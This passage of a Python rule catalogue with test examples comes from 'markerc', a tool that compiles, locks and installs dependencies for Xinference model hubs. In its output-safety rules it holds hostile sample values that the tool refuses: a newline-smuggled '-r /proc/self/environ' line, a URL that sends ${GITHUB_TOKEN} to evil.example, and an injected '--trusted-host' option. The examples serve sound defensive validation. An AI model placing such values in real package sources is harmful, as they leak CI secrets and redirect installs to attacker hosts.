        "meet in one decision: markerc decides markers exactly and refuses to enumerate the "
        "combinations.",
        Example(
            ("foo ; " + " or ".join(f"'{c}' in platform_version" for c in "abcdefghi"),),
            args=("compile", "{hub}", "--engine", "vllm"),
            note="9 patterns",
        ),
        Example(
            ("foo ; platform_version == 'a-b'",), args=("compile", "{hub}", "--engine", "vllm")
        ),
        stages=("compile",),
    ),
    # ------------------------------------------------------------------ lock matrix
    Rule(
        "MK530",
        "platform-not-resolvable",
        "error",
        "target platform the resolver cannot express",
        _LOCK,
        "A target's platform facts that uv cannot resolve for: `glibc_version` below 2.17 "
        "(manylinux2014), a `musl_version` below 1.2 (uv resolves musl targets for musllinux_1_2 "
        "only), or both a glibc and a musl version.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "old.toml",
                "--out",
                "locks",
                *NOINDEX,
            ),
            files=(
                (
                    "old.toml",
                    'name = "old"\nsys_platform = "linux"\nplatform_machine = "x86_64"\n'
                    'python_version = "3.11"\nglibc_version = "2.12"\n',
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "old.toml",
                "--out",
                "locks",
                *NOINDEX,
            ),
            files=(
                (
                    "old.toml",
                    'name = "old"\nsys_platform = "linux"\nplatform_machine = "x86_64"\n'
                    'python_version = "3.11"\nglibc_version = "2.17"\n',
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK531",
        "engine-not-on-platform",
        "warning",
        "pair skipped: the engine does not run on the target's platform",
        _LOCK,
        "The engine table says where an engine runs (`platforms`: vLLM and SGLang on Linux, MLX on "
        "macOS, as Xinference does); the pair is skipped, counted in the summary and listed by "
        "`--plan`, never resolved.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "macos-arm64",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK532",
        "pair-excluded",
        "warning",
        "pair excluded by an exclusion pattern",
        _LOCK,
        "A `--exclude MODEL[:ENGINE[:TARGET]]` pattern or a `[tool.markerc.lock] exclude` entry "
        "matches the pair; it is listed as excluded, and its old lock file (if any) is kept.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--exclude",
                "demo:vllm",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK533",
        "nothing-to-lock",
        "warning",
        "pair skipped: nothing to lock",
        _LOCK,
        "The compiled set is empty (an engine without a default list, such as `flag`, applied to a "
        "model that names nothing else); no empty lock is written.",
        Example(
            ('#flag_dependencies# ; #engine# == "flag"',),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "flag",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        Example(
            ('alpha ; #engine# == "flag"',),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "flag",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK534",
        "lock-out-of-date",
        "error",
        "lock file out of date",
        _LOCK,
        "The fingerprint in the lock's header differs from that of the current input; the message "
        "names what changed: the compiled requirements, the package sources, the target platform, "
        "the resolver (and its version) or the `UV_*` settings. Flag order, relative or absolute "
        "paths and the working directory are not inputs. Reported by `lock --check` (exit 1) and "
        "`install --lock` (exit 2).",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "-p",
                "beta",
                "--check",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0", "beta==1.0"),
            exit=1,
            note="-p beta changes the compiled requirements",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "--check",
                "--out",
                "./locks",
                "--target",
                "linux-cpu",
                "{hub}",
                "--engine",
                "vllm",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0", "beta==1.0"),
            note="another flag order and path spelling",
        ),
        stages=("lock",),
    ),
    Rule(
        "MK535",
        "lock-missing",
        "error",
        "lock file missing",
        _LOCK,
        "A case of the matrix has no lock file yet (`lock --check`, exit 1).",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--check",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
            exit=1,
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--check",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK536",
        "lock-orphaned",
        "error",
        "lock file no case writes any more",
        _LOCK,
        "A lock file markerc wrote, in the run's targets (and models and engines, when the run names "
        "them), that no case of the matrix writes: its model or engine is gone from the hub, or the "
        "pair is skipped now. `lock --check` reports it stale (exit 1), `lock --prune` removes it. "
        "Excluded pairs and pairs that failed to compile keep their files.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--check",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "old.json",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            files=(
                (
                    "old.json",
                    '[{"model_name": "demo", "virtualenv": {"packages": ["alpha"]}},\n'
                    ' {"model_name": "gone", "virtualenv": {"packages": ["alpha"]}}]\n',
                ),
            ),
            wheels=("alpha==1.0",),
            exit=1,
            note="model gone was removed from the hub",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--prune",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "old.json",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            files=(
                (
                    "old.json",
                    '[{"model_name": "demo", "virtualenv": {"packages": ["alpha"]}},\n'
                    ' {"model_name": "gone", "virtualenv": {"packages": ["alpha"]}}]\n',
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK537",
        "lock-edited",
        "error",
        "lock file changed after markerc wrote it",
        _LOCK,
        "The header's content digest (sha256 of everything after the header; for `--format uv` "
        "also of `uv.lock`) does not match the file: someone edited the lock. `lock --check` "
        "reports it (exit 1); `install --lock` refuses to install it (exit 2).",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--check",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            edits=(
                ("locks/demo/linux-cpu/pylock.vllm.toml", 'version = "1.0"', 'version = "2.0"'),
            ),
            wheels=("alpha==1.0",),
            exit=1,
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--check",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK538",
        "sdist-build-refused",
        "error",
        "sdist build refused: no wheel",
        _LOCK,
        "A package has no wheel for the target, and markerc resolves and installs with wheels only "
        "(uv `--no-build`, pip `--only-binary :all:`) so that no build backend from the hub's "
        "packages runs. `--allow-build` on the command line lets the resolver or installer build "
        "sdists; no hub or configuration value can.",
        Example(
            ("alpha", "sdistonly"),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
            sdists=("sdistonly==1.0",),
            note="sdistonly has only an sdist",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
            sdists=("sdistonly==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK539",
        "resolver-output-invalid",
        "error",
        "resolver output is not a valid lock",
        _LOCK,
        "The resolver exited 0 but what it wrote is no valid lock (not TOML, not PEP 751, a "
        "requirements line that is no pinned requirement, NUL or undecodable bytes), or it names "
        "the resolver's temp directory. Nothing is written for the case.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            files=(("fake/uv/__init__.py", FAKE_UV),),
            pythonpath="fake",
            wheels=("alpha==1.0",),
            note="a uv stand-in that writes its log into the output file",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
            note="the uv binary of the uv package",
        ),
        stages=("lock",),
    ),
    Rule(
        "MK540",
        "lock-wrong-cuda",
        "error",
        "lock pins builds for another CUDA than the target's",
        _LOCK,
        "A lock for a CUDA target pins a distribution built for another CUDA major (a `-cu13` / "
        "`-cuda13x` name or a `+cu130` local version on a CUDA 12.8 target): a driver of the "
        "target's CUDA cannot run it. The `[torch_index]` table pins the PyTorch family to the index "
        "of the target's build; this check catches what it does not cover.",
        Example(
            ("nvidia-cublas-cu13",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cuda128",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("nvidia-cublas-cu13==13.0",),
        ),
        Example(
            ("nvidia-cublas-cu12",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cuda128",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("nvidia-cublas-cu12==12.8",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK541",
        "index-unreachable",
        "error",
        "package index unreachable",
        _LOCK,
        "The resolver could not reach a package index (DNS, connection, timeout, offline mode). The "
        "message names the hosts and says that this is the environment's cause, not the hub's.",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                "--index-url",
                "https://pypi.invalid/simple",
            ),
            note="no network here (uv offline)",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--target",
                "linux-cpu",
                "--out",
                "locks",
                *NOINDEX,
            ),
            wheels=("alpha==1.0",),
            note="a local mirror folder",
        ),
        stages=("lock",),
    ),
    Rule(
        "MK545",
        "lock-not-markerc",
        "error",
        "lock file without a markerc header",
        _LOCK,
        "`install --lock` installs only locks markerc wrote, because it verifies them first "
        "(content digest, fingerprint).",
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "linux-cpu",
                "--venv",
                "v",
                "--lock",
                "someone-elses.txt",
                *NOINDEX,
            ),
            files=(("someone-elses.txt", "alpha==1.0\n"),),
            wheels=("alpha==1.0",),
        ),
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "linux-cpu",
                "--venv",
                "v",
                "--lock",
                "locks/demo/linux-cpu/requirements.vllm.txt",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "linux-cpu",
                    "--out",
                    "locks",
                    "--format",
                    "requirements",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    # ------------------------------------------------------------------ Xinference launch, venvs
    Rule(
        "MK550",
        "offline-without-index",
        "error",
        "offline mode without an index",
        _LAUNCH,
        "`--offline` (Xinference's launch step 17) rewrites wheel URLs to `NAME==VERSION`, so some "
        "index must serve them: an `--index-url` (a mirror), `--no-index --find-links DIR` (a wheel "
        "folder), or the block's `index_url`. Xinference refuses the same (`requires a private "
        "index_url`).",
        Example(("alpha",), args=("compile", "{hub}", "--engine", "vllm", "--offline")),
        Example(
            ("alpha",),
            args=(
                "compile",
                "{hub}",
                "--engine",
                "vllm",
                "--offline",
                "--index-url",
                "https://mirror.example/simple",
            ),
        ),
        stages=("compile", "lock"),
    ),
    Rule(
        "MK551",
        "direct-reference-offline",
        "error",
        "direct reference in offline mode",
        _LAUNCH,
        "In offline mode (`--offline`, and whenever `--index-url`, `--extra-index-url`, "
        "`--find-links` or `--no-index` name your own package sources) every requirement must come "
        "from those sources: a wheel URL becomes `NAME==VERSION` (local version and marker kept), "
        "but a `git+` URL, an sdist or archive URL, or a wheel whose file is another distribution "
        "cannot, and would fetch from the public internet. Each one is listed with its hub location; "
        "replace it with `-p NAME==VERSION` or serve it as a wheel.",
        Example(
            ("git+https://github.com/huggingface/diffusers",),
            args=("compile", "{hub}", "--engine", "vllm", "--no-index", "--find-links", "{wheels}"),
        ),
        Example(
            ("https://example.org/whl/diffusers-0.32.0-py3-none-any.whl",),
            args=("compile", "{hub}", "--engine", "vllm", "--no-index", "--find-links", "{wheels}"),
            note="rewritten to diffusers==0.32.0",
        ),
        stages=("compile", "lock"),
    ),
    Rule(
        "MK552",
        "venv-name-unsafe",
        "error",
        "name cannot be a folder of the venv layout",
        _LAUNCH,
        "`install --xinference-home` puts a venv at `virtualenv/v4/MODEL/ENGINE/PYTHON`. A model name "
        "from the hub that is not one plain path component (`..`, a `/` or `\\`, NUL or another "
        "control character, an absolute path or drive, more than 255 bytes), or a record without a "
        "`model_name`, is refused: markerc never renames it, since Xinference would look under the "
        "name as written.",
        Example(
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "../escape",
                "--xinference-home",
                "home",
                "--python",
                "python3",
                "--dry-run",
            ),
            document='[{"model_name": "../escape", "virtualenv": {"packages": ["alpha"]}}]\n',
        ),
        Example(
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "escape",
                "--xinference-home",
                "home",
                "--python",
                "python3",
                "--dry-run",
            ),
            document='[{"model_name": "escape", "virtualenv": {"packages": ["alpha"]}}]\n',
        ),
        stages=("cli",),
    ),
    Rule(
        "MK553",
        "not-a-venv",
        "error",
        "install target is not a venv markerc recognises",
        _LAUNCH,
        "The folder `install` would put the venv in exists but is not a virtual environment "
        "(no `pyvenv.cfg` or no interpreter), is a file, or is reached through a symbolic link. "
        "markerc never overwrites or deletes it; an existing venv is installed into.",
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--venv",
                "data",
                "--dry-run",
            ),
            files=(("data/notes.txt", "keep me\n"),),
        ),
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--venv",
                "fresh",
                "--dry-run",
            ),
            files=(("data/notes.txt", "keep me\n"),),
        ),
        stages=("cli",),
    ),
    Rule(
        "MK554",
        "base-needed",
        "error",
        "skip-installed without a base environment",
        _LAUNCH,
        "A venv over a base environment (`--skip-installed`, `--xinference-home`, a lock made over "
        "a base) needs the base interpreter, `--python PATH` (Xinference uses the worker's). `lock "
        "--skip-installed` needs targets whose `[system]` table lists the base's distributions "
        "(`markerc env` writes it).",
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--venv",
                "v",
                "--skip-installed",
                "--dry-run",
            ),
        ),
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--venv",
                "v",
                "--skip-installed",
                "--python",
                "python3",
                "--dry-run",
            ),
        ),
        stages=("lock", "cli"),
    ),
    Rule(
        "MK555",
        "base-changed",
        "error",
        "the base no longer provides what the lock records",
        _LAUNCH,
        "A lock made with `lock --skip-installed` lists the distributions the base provides; "
        "`install --lock` checks that the new venv sees each of them at exactly that version before "
        "installing the rest with `--no-deps`, and stops (removing the venv it created) when one is "
        "missing or another version.",
        Example(
            ("alpha", "gamma"),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "t.toml",
                "--venv",
                "v",
                "--python",
                "python3",
                "--lock",
                "locks/demo/base/pylock.vllm.toml",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "t.toml",
                    "--out",
                    "locks",
                    "--skip-installed",
                    *NOINDEX,
                ),
            ),
            files=(("t.toml", _BASE_TARGET),),
            wheels=("alpha==1.0", "gamma==1.0"),
            note="python3 has no gamma",
        ),
        Example(
            ("alpha", "gamma"),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "t.toml",
                "--venv",
                "v",
                "--python",
                "base/bin/python",
                "--lock",
                "locks/demo/base/pylock.vllm.toml",
                *NOINDEX,
            ),
            before=(
                (
                    "install",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--model",
                    "demo",
                    "--venv",
                    "base",
                    *NOINDEX,
                ),
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "t.toml",
                    "--out",
                    "locks",
                    "--skip-installed",
                    *NOINDEX,
                ),
            ),
            files=(("t.toml", _BASE_TARGET),),
            wheels=("alpha==1.0", "gamma==1.0"),
            note="the base venv has gamma 1.0",
        ),
        stages=("cli",),
    ),
    Rule(
        "MK556",
        "lock-base-mismatch",
        "error",
        "skip-installed with a lock that cannot do it",
        _LAUNCH,
        "`install --skip-installed --lock FILE` where the lock was made without a base (it lists "
        "everything: install it as it is, or lock with `--skip-installed`), or `lock "
        "--skip-installed` with `--format uv` or the pip-compile resolver (a uv.lock cannot record "
        "what a base provides).",
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "t.toml",
                "--venv",
                "v",
                "--python",
                "python3",
                "--skip-installed",
                "--lock",
                "locks/demo/base/pylock.vllm.toml",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "t.toml",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            files=(("t.toml", _BASE_TARGET),),
            wheels=("alpha==1.0",),
        ),
        Example(
            ("alpha",),
            args=(
                "install",
                "{hub}",
                "--engine",
                "vllm",
                "--model",
                "demo",
                "--target",
                "t.toml",
                "--venv",
                "v",
                "--lock",
                "locks/demo/base/pylock.vllm.toml",
                *NOINDEX,
            ),
            before=(
                (
                    "lock",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--target",
                    "t.toml",
                    "--out",
                    "locks",
                    *NOINDEX,
                ),
            ),
            files=(("t.toml", _BASE_TARGET),),
            wheels=("alpha==1.0",),
        ),
        stages=("lock", "cli"),
    ),
    Rule(
        "MK557",
        "no-such-venv",
        "error",
        "no venv to remove",
        _LAUNCH,
        "`venvs remove MODEL [--engine E] [--python V]` found no venv of that model (and engine, and "
        "Python version) under `XINFERENCE_HOME/virtualenv/v4`. Folders there that are not venvs are "
        "never removed.",
        Example(("alpha",), args=("venvs", "remove", "demo", "--xinference-home", "home")),
        Example(
            ("alpha",),
            args=("venvs", "remove", "demo", "--xinference-home", "home"),
            before=(
                (
                    "install",
                    "{hub}",
                    "--engine",
                    "vllm",
                    "--model",
                    "demo",
                    "--xinference-home",
                    "home",
                    "--python",
                    "python3",
                    *NOINDEX,
                ),
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("cli",),
    ),
    Rule(
        "MK558",
        "cuda-index-offline",
        "warning",
        "engine CUDA index not used in offline mode",
        _LAUNCH,
        "On a target with a usable CUDA device, an engine with a `cuda_index` (llama.cpp: xllamacpp's "
        "CUDA builds, Xinference's launch step 14) is switched to that index, unless offline mode "
        "(or your own package sources) forbids public URLs: then your index must serve the CUDA "
        "build, or the CPU build from it is what gets installed.",
        Example(
            ('#llama_cpp_dependencies# ; #engine# == "llama.cpp"',),
            args=(
                "compile",
                "{hub}",
                "--engine",
                "llama.cpp",
                "--target",
                "linux-cuda128",
                "--no-index",
                "--find-links",
                "{wheels}",
            ),
        ),
        Example(
            ('#llama_cpp_dependencies# ; #engine# == "llama.cpp"',),
            args=("compile", "{hub}", "--engine", "llama.cpp", "--target", "linux-cuda128"),
        ),
        stages=("compile", "lock"),
    ),
    # ------------------------------------------------------------------ review: diff, report
    Rule(
        "MK570",
        "git-revision-unreadable",
        "error",
        "cannot read a git revision",
        _REVIEW,
        "An argument `REV:PATH` of `diff` names no readable file or folder: the revision or the "
        "path does not exist (PATH is relative to the repository root, as in `git show`; "
        "`REV:./PATH` is relative to the current folder), the current folder is not in a git "
        "repository, git is not installed, or the revision starts with `-` (refused: it would be "
        "read as an option). Exit status 2.",
        Example(
            ("foo",),
            args=("diff", "nosuchrev:hub.json", "{hub}"),
            note="not a git repository, no such revision",
        ),
        Example(("foo",), args=("diff", "{hub}", "{hub}")),
        stages=("cli",),
    ),
    Rule(
        "MK571",
        "no-hub-files",
        "error",
        "no hub files to compare or report",
        _REVIEW,
        "A folder argument of `diff` or `report` holds no `*.json` file (directly inside it), or "
        "`report` was given two hub files with the same file name (rows and lock paths are keyed "
        "by it). Exit status 2.",
        Example(
            ("foo",),
            args=("report", "sub/"),
            files=(("sub/notes.txt", "x"),),
            note="the folder holds no hub file",
        ),
        Example(("foo",), args=("report", "{hub}")),
        stages=("cli",),
    ),
    Rule(
        "MK572",
        "not-a-lock-report",
        "error",
        "not a markerc lock report",
        _REVIEW,
        "`report --lock-report FILE` is not JSON (the error gives its line and column), has no "
        '`"schema": "markerc-lock-report/1"`, or a case lacks a string `file`, `engine` or '
        "`status`. Give it the file `markerc lock --report FILE` wrote. Exit status 2.",
        Example(
            ("foo",),
            args=("report", "{hub}", "--lock-report", "{hub}"),
            note="a hub file is not a lock report",
        ),
        Example(("foo",), args=("report", "{hub}")),
        stages=("cli",),
    ),
    # ------------------------------------------------------------------ output safety (MK600-MK619)
    Rule(
        "MK600",
        "output-control-character",
        "error",
        "line break or control character in a value that reaches an output",
        _SAFETY,
        "A model name, a package source (`index_url`, `extra_index_url`, `find_links`, "
        "`trusted_host`), an entry, a `--set`/`--system`/`--index-url` value or a target's system "
        "version holds a character that pip, uv or a terminal acts on: a line break (LF, CR, VT, "
        "FF, FS/GS/RS 0x1c-0x1e, U+0085, U+2028, U+2029), ESC or another C0/C1 control, a bidi "
        "override or another invisible format character. In a requirements file or a uv input a "
        "line break starts a line of the attacker's choosing (`--find-links EVIL`, `-r "
        "/proc/self/environ`). markerc refuses the value (docs/security.md).",
        Example(("foo",), block='"find_links": ["wheels\\n-r /proc/self/environ"]'),
        Example(("foo",), block='"find_links": ["wheels"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK601",
        "environment-expansion",
        "error",
        "'${' in a value pip and uv would expand",
        _SAFETY,
        "pip and uv replace `${NAME}` in a requirements file (and uv in a package URL while it "
        "locks) with the environment variable's value, so a hub value such as "
        "`https://evil.example/${GITHUB_TOKEN}/simple` sends a CI secret to that server. markerc "
        "refuses `${` in every hub value it writes; only a value the user gives on the command "
        "line (`--index-url`, `--extra-index-url`, `--find-links`) may ask for expansion.",
        Example(("foo",), block='"index_url": "https://mirror.example/${TOKEN}/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK602",
        "line-continuation",
        "error",
        "value ends with a backslash (a line continuation)",
        _SAFETY,
        "A line of a requirements file that ends with `\\` is joined with the next one, so a "
        "package source ending with a backslash swallows the line after it (pip then silently "
        "skips a requirement). markerc refuses such a value.",
        Example(("foo",), block='"trusted_host": ["mirror.example\\\\"]'),
        Example(("foo",), block='"trusted_host": ["mirror.example"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK603",
        "comment-in-value",
        "error",
        "' #' inside a value: pip and uv read a comment",
        _SAFETY,
        "pip and uv read whitespace followed by `#` as the start of a comment, even inside a "
        'quoted marker value, so `foo ; platform_version == "Ubuntu #1 SMP"` reaches them '
        'as `foo ; platform_version == "Ubuntu` (a syntax error, or a different marker). '
        "markerc refuses it; test a part of the value that has no ` #`.",
        Example(('foo ; platform_version == "Ubuntu #1 SMP"',)),
        Example(('foo ; "SMP" in platform_version',)),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK604",
        "option-in-value",
        "error",
        "option-looking text where one value belongs",
        _SAFETY,
        "A package source is written as `--index-url VALUE` (one line, one value): a value that "
        "starts with `-` or holds whitespace would give pip and uv more options "
        "(`https://mirror.example/simple --trusted-host evil.example`, `--no-index`). markerc "
        "refuses it; give each source its own list element.",
        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple --no-index"]'),
        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple"]'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK605",
        "invalid-package-source",
        "error",
        "package source that is not a URL, path or host",
        _SAFETY,
        "`index_url` and `extra_index_url` must be http://, https:// or file:// URLs with a host "
        "(file:// aside), `find_links` such a URL or a path, `trusted_host` a host name or "
        "`host:port`; an empty value, another scheme or a port that is not a number is refused.",
        Example(("foo",), block='"index_url": "mirror.example/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
        stages=("check", "compile", "lock"),
    ),
    Rule(
        "MK606",
        "invalid-system-version",
        "error",
        "system version that is not one version",
        _SAFETY,
        "A version in a target's `[system]` table or in `--system NAME=VERSION` is written into "
        "`NAME==VERSION` requirement lines, so it must be one PEP 440 version: a specifier "
        "(`2.8.0,<1`), a marker (`2.8;os_name=='nt'`), a URL or a line break is refused.",
        Example(
            ("#system_torch#",),
            args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0,<1"),
        ),
        Example(
            ("#system_torch#",),
            args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0"),
        ),
        stages=("compile", "cli"),
    ),
    Rule(
        "MK607",
        "shell-quote-in-option",
        "error",
        "quote or backslash in a package source",
        _SAFETY,
        "pip splits the option lines of a requirements file as a shell does (`shlex`), so a "
        "`\"`, `'` or `\\` inside an `index_url`, `extra_index_url`, `find_links` or "
        '`trusted_host` value changes the value pip uses (`https://a"b` loses its quote, '
        "`C:\\wheels` becomes `C:wheels`) or makes the whole file unreadable (`No closing "
        "quotation`). Percent-encode the character in a URL (`%22`, `%27`, `%5C`); write a path "
        "with forward slashes.",
        Example(("foo",), block='"index_url": "https://mirror.example/it\'s/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/it%27s/simple"'),
        stages=("check", "compile", "lock"),
    ),
    # ------------------------------------------------------------------ strict reading, files (MK620+)
    Rule(
        "MK620",
        "duplicate-key",
        "error",
        "duplicate key in a JSON object",
        _READING,
        "The standard JSON parsers keep one of two equal keys silently (Python the last, others the "
        "first), so a reviewer could read one `packages` list and the tools use the other. markerc "
        "refuses any object of a hub file (a model, a `virtualenv` block or any other value) that "
        "names a key twice, at the second one; keys are compared after decoding escapes.",
        Example(
            document='[{"model_name": "demo", "virtualenv": {"packages": ["a"], "packages": ["b"]}}]\n'
        ),
        Example(document='[{"model_name": "demo", "virtualenv": {"packages": ["a", "b"]}}]\n'),
        stages=_CC,
    ),
    Rule(
        "MK621",
        "input-over-limit",
        "error",
        "input over a documented limit",
        _READING,
        "A number literal longer than 100 characters, a string markerc reads (a key, model name, "
        "engine, entry or URL) longer than 65 536 characters, arrays and objects nested more than "
        "100 levels, or a file larger than its limit (1 GiB for a hub, 64 MiB for TOML, locks and "
        "reports). The limits are in docs/security-reading.md; each error names where it was hit.",
        Example(
            document='[{"model_name": "demo", "size": '
            + "9" * 120
            + ', "virtualenv": {"packages": ["a"]}}]\n'
        ),
        Example(
            document='[{"model_name": "demo", "size": 9, "virtualenv": {"packages": ["a"]}}]\n'
        ),
